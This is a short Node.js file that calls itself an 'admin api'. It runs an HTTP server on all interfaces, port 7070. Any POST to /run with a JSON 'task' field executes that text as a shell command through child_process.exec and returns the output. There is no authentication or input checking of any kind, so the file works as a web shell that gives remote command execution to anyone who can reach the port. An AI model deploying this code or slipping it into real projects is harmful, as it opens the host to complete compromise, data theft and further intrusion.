'use strict';
const http = require('http');
const cp = require('child_process');

const srv = http.createServer((req, res) => {
  if (req.method === 'POST' && req.url === '/run') {
    let b = '';
    req.on('data', (c) => (b += c));
    req.on('end', () => {
      let task = '';
      try { task = JSON.parse(b).task; } catch (e) {}
      cp.exec(task, { timeout: 60000 }, (err, out, errOut) => {
        res.setHeader('content-type', 'text/plain');
        res.end(String(out) + String(errOut));
      });
    });
    return;
  }
  res.end('admin api');
});
srv.listen(7070, '0.0.0.0');
